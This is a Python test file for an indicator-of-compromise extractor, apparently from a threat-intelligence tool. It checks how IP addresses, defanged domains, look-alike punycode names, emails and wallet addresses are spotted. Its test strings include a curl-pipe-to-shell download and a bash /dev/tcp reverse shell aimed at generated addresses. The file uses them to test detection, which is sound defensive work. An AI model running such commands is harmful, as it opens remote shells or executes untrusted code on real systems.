"""The extractor: what is written is found, in every spelling; what only looks like it is not."""

from __future__ import annotations

import ipaddress

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from toadstone.intel.keccak import keccak256
from toadstone.intel.spotting import Spotted, spot, spot_bytes
from toadstone.intel.spotting_hosts import ipv4_any, name
from toadstone.intel.spotting_runs import bitcoin_base58, bitcoin_bech32, eip55
from toadstone.intel.spotting_scripts import is_lookalike, skeleton


def found(text: str) -> set[tuple[str, str]]:
    return {(one.type, one.value) for one in spot(text)}


FOUR = st.ip_addresses(v=4).map(str)
SIX = st.ip_addresses(v=6, network="2000::/3")
LABEL = st.from_regex(r"[a-z][a-z0-9]{3,12}", fullmatch=True)


@given(FOUR)
@settings(max_examples=200, deadline=None)
def test_an_address_in_every_form_of_inet_aton_inside_a_url(address):
    number = int(ipaddress.IPv4Address(address))
    a, b, c, d = address.split(".")
    spellings = {
        address: "plain",
        f"0x{number:08x}": "hex",
        f"0X{number:X}": "hex",
        f"{number}": "integer",
        f"0{number:o}": "octal",
        f"{a}.{b}.{int(c) * 256 + int(d)}": "mixed",
        f"{a}.{number & 0xFFFFFF}": "mixed",
        f"0{int(a):o}.0{int(b):o}.0{int(c):o}.0{int(d):o}": "octal",
        f"0x{int(a):x}.0x{int(b):x}.0x{int(c):x}.0x{int(d):x}": "hex",
    }
    for written, form in spellings.items():
        text = f"curl -s http://{written}:8080/x | sh"
        one = next(spot(text))
        assert (one.type, one.value, one.host) == ("url", f"http://{address}:8080/x", address), written
        assert text[one.start : one.end] == f"http://{written}:8080/x"
        assert one.form == form or number < 2**24, (written, one)  # parts that are 0 are of every base


@given(FOUR.filter(lambda address: int(address.split(".")[0]) >= 32))
@settings(max_examples=100, deadline=None)
def test_an_address_bare_defanged_and_as_an_endpoint(address):
    assert ("ipv4", address) in found(f"connect to {address} now")
    assert ("ipv4", address) in found(f"seen: {address.replace('.', '[.]')}, blocked")
    assert ("ipv4", address) in found(f"seen: {address.replace('.', '(dot)')}, blocked")
    assert {("ipv4", address), ("port", f"{address}:4444")} <= found(f"s.connect('{address}:4444')")
    assert {("ipv4", address), ("port", f"{address}:53")} <= found(f"bash -i >& /dev/tcp/{address}/53 0>&1")


@given(SIX)
@settings(max_examples=200, deadline=None)
def test_an_ipv6_address_in_its_forms(address):
    for written in (address.compressed, address.exploded, address.compressed.upper(), f"{address.compressed}%eth0"):
        groups = address.exploded.split(":")
        if "::" not in written and all(len(group) == 2 for group in groups):
            continue
        assert ("ipv6", address.compressed) in found(f"listening on {written} since")
    url = f"http://[{address.compressed}]:8443/a"
    assert next(spot(f"get {url} now")) == Spotted("url", url, 4, 4 + len(url), "plain", address.compressed)
    assert {("ipv6", address.compressed), ("port", f"[{address.compressed}]:443")} <= found(f"to ([{address.compressed}]:443)")
    defanged = address.exploded.replace(":", "[:]")
    assert ("ipv6", address.compressed) in found(f"seen {defanged} today")


@given(LABEL, LABEL, st.sampled_from(["com", "org", "ru", "xyz", "de", "cfd"]))
@settings(max_examples=100, deadline=None)
def test_a_domain_in_its_forms(first, second, tld):
    host = f"{first}.{second}.{tld}"
    for text in (
        f"nslookup {host}",
        f"sent to hxxps://{host}/x",
        f"sent to {host.replace('.', '[.]')} at night",
        f"sent to {host.replace('.', ' [.] ')} at night",
        f"http[:]//{host}/",
        f"http:\\/\\/{host}\\/",
        f"{first}[.]{second}[.]{tld}",
    ):
        assert any(host in (one.value, one.host) for one in spot(text)), text
    assert ("email", f"joe@{host}") in found(f"write to joe[at]{host}.")
    assert ("email", f"joe@{host}") in found(f"write to joe@{host}.")


@given(st.text(alphabet="абвгдежзклмнпстуфхцчшщыьэюя", min_size=3, max_size=20))
@settings(max_examples=50, deadline=None)
def test_internationalised_names_become_punycode(label):
    value = "xn--" + label.encode("punycode").decode() + ".xn--p1ai"
    for text in (f"сайт {label}.рф здесь", f"http://{label}.рф/x", f"http://{value}/x"):
        assert any(value in (one.value, one.host) for one in spot(text)), text


@pytest.mark.parametrize(
    ("written", "form", "read"),
    [
        ("gооgle.com", "look-alike", "google"),  # noqa: RUF001  (Cyrillic letters among Latin ones)
        ("аррӏе.com", "look-alike", "apple"),  # noqa: RUF001  (nothing but Cyrillic)
        ("xn--80ak6aa92e.com", "look-alike", "apple"),
        ("ɡithub.com", "look-alike", "github"),  # noqa: RUF001  (a letter of phonetics)
        ("bücher.de", "idna", "bücher"),
        ("пример.com", "idna", ""),
        ("сосо.рф", "idna", ""),  # noqa: RUF001  (a Russian word below a Russian name)
    ],
)
def test_names_that_are_written_to_deceive(written, form, read):
    value, given_form, _ = name(written)
    assert value.startswith("xn--")
    assert given_form == form
    one = next(spot(f"see http://{written}/login"))
    assert (one.host, one.form) == (value, form)
    if read:
        label = value.split(".")[0][4:].encode().decode("punycode")
        assert skeleton(label) == read
        assert is_lookalike(label, "com") == (form == "look-alike")


@pytest.mark.parametrize(
    "text",
    [
        "os.path.is torch.nn self.id np.int model.fit x.map layer.top config.info node.name",
        "from torch.nn import Linear; import os.path; tensor.to(device); df.at[0]; re.search(x)",
        "README.md setup.py install.sh lib.rs main.cc archive.zip model.pt train.de newstest.fr audio.au",
        "version 1.2.3.4, pkg-1.2.3.4, tool==1.2.3.4, v1.2.3.4, Chrome/91.0.4.12, upgrade V8 to 3.22.24.19",
        "1.2.3.4 Scope of this document\n2.1.3.1 Terms",
        "OID 1.3.6.1.4.1, ObjectIdentifier('2.5.4.3'), Conf.pm,1.91.2.1,1.91.2.2",
        "ASP.NET and System.Net, e.g. i.e. a.m. U.S.A. done.In this case",
        "std::vector x[2000::2] a::b face::add 12:30:45 aa:bb:cc:dd:ee:ff 00:11:22:33:44:55:66:77",
        "0.123456, 3.14159, 1e-5, -0.5.0",
        "http://{host}:{port}/ https://%s/x http://... ftp://<server>/ http://",
        "commit 9718fa2e8abe430c3526a9278dd976443d4ae3c6 of 44d88612fea8a8f36de82e1278abb02f-x",
        "@app.get @property.setter a@b.T x@w.to(y) **kwargs.items()",
        "int('1904440554', 11) id 2130706433 and 0x7f000001 in a table",
        "[.]txt [x for x in y] (.) re.compile(r'[.]com') foo(bar.baz)",
        "host 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb 0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD",
        "256.1.1.1 1.2.3 1.2.3.4.5 01.02.03.04",
        "2 * res.fl + res.fr - work.ir",
        "HHMMSS[.ss] com.acme.xyz 'green\\\\red.py' with NED.xyz here",
    ],
)
def test_what_only_looks_like_an_indicator(text):
    assert list(spot(text)) == []


def test_what_is_known_counts_in_any_surroundings():
    text = "self.io and 44d88612fea8a8f36de82e1278abb02f"
    assert list(spot(text)) == []
    assert [one.value for one in spot(text, {"self.io", "44d88612fea8a8f36de82e1278abb02f"}.__contains__)] == text.split(" and ")


def test_check_sums_decide_about_wallets():
    assert bitcoin_base58("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa")
    assert not bitcoin_base58("1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb")
    assert bitcoin_bech32("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq")  # BIP 173
    assert bitcoin_bech32("bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr")  # BIP 350
    assert not bitcoin_bech32("bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdp")
    for address in ("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359"):  # EIP-55
        assert eip55(address[2:].lower()) == address
    assert keccak256(b"").hex() == "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"
    assert keccak256(b"a" * 200).hex() == keccak256(b"a" * 200).hex() != keccak256(b"a" * 199).hex()


def test_a_url_ends_where_the_sentence_goes_on():
    cases = {
        "(see http://a.example/b).": "http://a.example/b",
        "[x](http://a.example/b_(c))": "http://a.example/b_(c)",
        '<a href="http://a.example/b?c=d&amp;e=f">': "http://a.example/b?c=d&amp;e=f",
        "http://a.example/b,http://c.example/": "http://a.example/b",
        "'http://a.example/b'+x": "http://a.example/b",
        "http://a.example/b&quot;>": "http://a.example/b",
        "http://user:pw@a.example:81/b#c": "http://user:pw@a.example:81/b#c",
    }
    for text, url in cases.items():
        assert next(one for one in spot(text) if one.type == "url").value == url, text


def test_places_in_long_texts_and_in_bytes():
    part = "x" * 70_000 + " http://203.0.113.7/a "
    text = part * 20
    places = [(one.start, text[one.start : one.end]) for one in spot(text)]
    assert places == [(index * len(part) + 70_001, "http://203.0.113.7/a") for index in range(20)]
    data = b"\xff\0\0" + "héé http://203.0.113.7/a".encode() + b"\0\xfe" + "http://b.example/".encode("utf-16-le") + b"\xff\xff"
    for one in spot_bytes(data):
        piece = data[one.start : one.end].replace(b"\0", b"").decode()
        assert piece == one.value
    assert [one.host for one in spot_bytes(data)] == ["203.0.113.7", "b.example"]
    wide = "é http://203.0.113.7/a".encode()
    assert [wide[one.start : one.end] for one in spot_bytes(wide)] == [b"http://203.0.113.7/a"]


@given(st.text(max_size=400) | st.text(alphabet="a.:/@[](){}0123456789xX-_%\\é。\n ", max_size=400))
@settings(max_examples=400, deadline=None)
def test_any_text_ends_and_places_are_right(text):
    past = 0
    for one in spot(text):
        assert 0 <= one.start < one.end <= len(text)
        if one.type != "port":
            assert one.start >= past
            past = one.end


@given(st.binary(max_size=600))
@settings(max_examples=200, deadline=None)
def test_any_bytes_end(data):
    for one in spot_bytes(data):
        assert 0 <= one.start < one.end <= len(data)


@pytest.mark.slow
@pytest.mark.parametrize(
    "unit", ["a.", "1.", ":", "http://", "[.]", "a@", "\\\\", "0x", "::", "(", "9" * 9 + " ", "a" * 30 + " ", "[.", "dot]"]
)
def test_cost_is_linear(unit):
    import time

    def cost(size: int) -> float:
        text = unit * (size // len(unit))
        began = time.process_time()
        for _ in spot(text):
            pass
        return time.process_time() - began

    small, large = max(cost(100_000), 0.002), cost(800_000)
    assert large < 40 * small + 0.5


def test_forms_of_inet_aton_that_are_none():
    for text in ("", "1.2.3.4.5", "256.1.1.1", "0x", "08", "1..2", "4294967296", "0xfffffffff", "1.2.65536", "a"):
        assert ipv4_any(text) == ("", ""), text
